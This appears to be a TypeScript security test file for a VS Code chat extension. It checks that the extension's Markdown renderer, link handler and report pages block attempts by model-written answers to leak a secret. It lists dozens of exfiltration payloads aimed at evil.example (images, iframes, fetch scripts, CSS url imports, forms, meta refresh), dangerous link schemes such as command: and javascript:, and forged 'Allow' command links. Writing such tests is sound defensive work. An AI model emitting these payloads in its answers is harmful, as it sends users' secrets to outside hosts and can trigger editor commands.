import { codeBlock } from '../../../src/converser/words/texts/markdown-code.ts';
import { linkTarget } from '../../../src/sidebar/markdown/link-target.ts';
import { createMarkdownParser } from '../../../src/sidebar/markdown/parse-markdown.ts';
import { diagramHtml } from '../../../src/vscode/code/diagram-html.ts';
import { escapeMarkdown, inlineCode, withoutLinks } from '../../../src/vscode/common/markdown.ts';
import { reportPageHtml } from '../../../src/vscode/common/page-html.ts';
import { words } from '../words.ts';
import { type Attempt, attempt } from './attempt.ts';
import { secret } from './world.ts';

const evil = `https://evil.example/?q=${secret}`;

/** What an answer holds that a model was made to write, to tell its reader's secret to another computer. */
const pictures: Readonly<Record<string, string>> = {
  'an image': `![x](${evil})`,
  'an image by reference': `![x][e]\n\n[e]: ${evil}`,
  'an image in a link': `[![x](${evil})](https://example.com)`,
  'an image in a table': `| a |\n|---|\n| ![x](${evil}) |`,
  'an image in a footnote': `a[^1]\n\n[^1]: ![x](${evil})`,
  'an image in a heading': `# ![x](${evil})`,
  'an image with a title': `![x](${evil} "title")`,
  'an image in angle brackets': `![x](<${evil}>)`,
  'an image by HTML': `<img src="${evil}">`,
  'a picture by HTML': `<picture><source srcset="${evil}"><img></picture>`,
  'a frame': `<iframe src="${evil}"></iframe>`,
  'a style': `<style>@import url(${evil});</style><p style="background:url(${evil})">x</p>`,
  'a style sheet': `<link rel="stylesheet" href="${evil}">`,
  'a script': `<script src="${evil}"></script><script>fetch("${evil}")</script>`,
  'a handler': `<p onmouseover="fetch('${evil}')">x</p>`,
  'a form': `<form action="${evil}"><button>Go on</button></form>`,
  'a picture of vectors': `<svg><image href="${evil}"/><use href="${evil}#x"/></svg>`,
  'an object': `<object data="${evil}"></object><embed src="${evil}">`,
  'a film': `<video src="${evil}" poster="${evil}" autoplay></video>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}">`,
  'a base': `<base href="https://evil.example/"><a href="x">x</a>`,
  'a formula': `$\\includegraphics{${evil}}$ $\\href{${evil}}{x}$ $\\htmlStyle{background:url(${evil})}{x}$`,
  'the language of code': `\`\`\`"><img src=${evil}>\nx\n\`\`\``,
  'the file of code': `\`\`\`ts src/"onmouseover="fetch('${evil}')".ts\nx\n\`\`\``,
  'the label of an image': `![<img src=${evil}>"onerror="x](https://example.com)`,
  'the title of a link': `[x](https://example.com "\\"><img src=${evil}>")`,
  'the alignment of a table': `| a |\n|:-:|\n| "style="background:url(${evil}) |`,
};

/** Tags that fetch or run something by themselves, and attributes that do. */
const fetching =
  /<(?:img|image|picture|source|iframe|frame|object|embed|video|audio|track|script|style|link|form|input|button|svg|base|meta|use)\b|<[^>]*\s(?:src|srcset|style|poster|data|action|background|on\w+)\s*=(?=(?:[^"]*"[^"]*")*[^"]*>)/i;

const rendered: readonly Attempt[] = Object.entries(pictures).map(([what, markdown]) =>
  attempt(`an answer fetches an address by ${what}`, async () => {
    const html = createMarkdownParser().toHtml(markdown);
    // What stands between quotation marks is the value of an attribute, and no attribute.
    const tags = html.replace(/="[^"]*"/g, '=""');
    return fetching.test(tags) ? [html] : [];
  }),
);

/** What a link in an answer must not open. */
const links: readonly string[] = [
  ...words(`
    command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22evil%22%7D
    COMMAND:converser.answer?%5B%22question-1%22%5D ␣command:x javascript:alert(1) JaVaScRiPt:alert(1)
    data:text/html,<script>1</script> vbscript:x blob:https://example.com/x vscode://evil.extension/x
    vscode-insiders://evil.extension/x vscode:extension/evil.x file://evil.example/share/x
    file:////evil.example/share/x //evil.example/x http:/evil.example https:evil.example https:///evil.example
    ssh://evil.example ftp://evil.example/x mailto:evil@evil.example?body=x tel:+1 ms-settings:x
    search-ms:query=x vscode-webview://x/y vscode-file://vscode-app/x untitled:x git:/x view-source:https://x
    x:y`),
  'com\tmand:x',
  'com\nmand:x',
  '\u0000command:x',
  'java\rscript:alert(1)',
  '\\\\evil.example\\share\\x',
  '/\\evil.example/x',
];

const opened: readonly Attempt[] = links.map(link =>
  attempt(`a link in an answer opens ${JSON.stringify(link)}`, async () => {
    const target = linkTarget(link);
    return target === undefined ? [] : [`it opens ${target}`];
  }),
);

/** Text of others in what VS Code shows as Markdown, where links may run commands. */
const forged: readonly string[] = [
  '[Allow](command:converser.answer?x)',
  '![x](https://evil.example/x.png)',
  '](command:x)',
  '`](command:x)`',
  '```\n[x](command:x)\n```',
  '~~~\n[x](command:x)',
  '<a href="command:x">x</a>',
  '<img src="https://evil.example/x.png">',
  '$(shield) Allow?',
  '<https://evil.example>',
  '\u202e[x](command:x)',
  'a\n\n# Allow?\n\n[x](command:x)',
  '\\](command:x)',
  '&#93;(command:x)',
  '[x]: command:x',
];

/** How `command:` links and images come to be, in what VS Code's Markdown makes of text. */
const isAlive = (markdown: string) => {
  const html = createMarkdownParser().toHtml(markdown.replaceAll('\u2060', ''));
  return /<a href="(?!https?:)|<h1|<img/.test(html);
};

const notices: readonly Attempt[] = forged.flatMap(text =>
  Object.entries({ escapeMarkdown, inlineCode, codeBlock }).map(([name, write]) =>
    attempt(`${JSON.stringify(text)} becomes more than text by ${name}`, async () => {
      const written = `Reason: ${name === 'codeBlock' ? '\n\n' : ''}${write(text)}`;
      // Code is shown without icons.
      const hasIcon = name !== 'codeBlock' && written.includes('$(');
      return isAlive(written) || hasIcon ? [written] : [];
    }),
  ),
);

const notifications: readonly Attempt[] = forged
  .filter(text => text.includes('](') && !text.includes('#93'))
  .map(text =>
    attempt(`${JSON.stringify(text)} becomes a link in a notification`, async () =>
      // https://github.com/microsoft/vscode/blob/main/src/vs/base/common/linkedText.ts
      /\[[^\]]+\]\([^)]+\)/.test(withoutLinks(text)) ? [withoutLinks(text)] : [],
    ),
  );

/** The pages that Converser makes of what others wrote. */
const pages: readonly Attempt[] = [
  `</pre><img src="${evil}">`,
  `"><script>fetch("${evil}")</script>`,
  '</title><base href=//evil>',
]
  .flatMap(text => {
    const assets = {
      source: 'vscode-resource:',
      url: (...path: readonly string[]) => path.join('/'),
      nonce: 'n',
    };
    return [
      ['a diagram', diagramHtml(text, assets)],
      ['a report', reportPageHtml(text, assets)],
    ] as const;
  })
  .map(([what, html], at) =>
    attempt(`the page of ${what} fetches what it is given (${at})`, async () => {
      const [, policy = ''] = /Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
      const isClosed = policy.startsWith("default-src 'none'") && !/https?:|\*|'unsafe-eval'/.test(policy);
      const isText = !/<img|<base|<script>/.test(html);
      return isClosed && isText ? [] : [html];
    }),
  );

export const shown: readonly Attempt[] = [...rendered, ...opened, ...notices, ...notifications, ...pages];
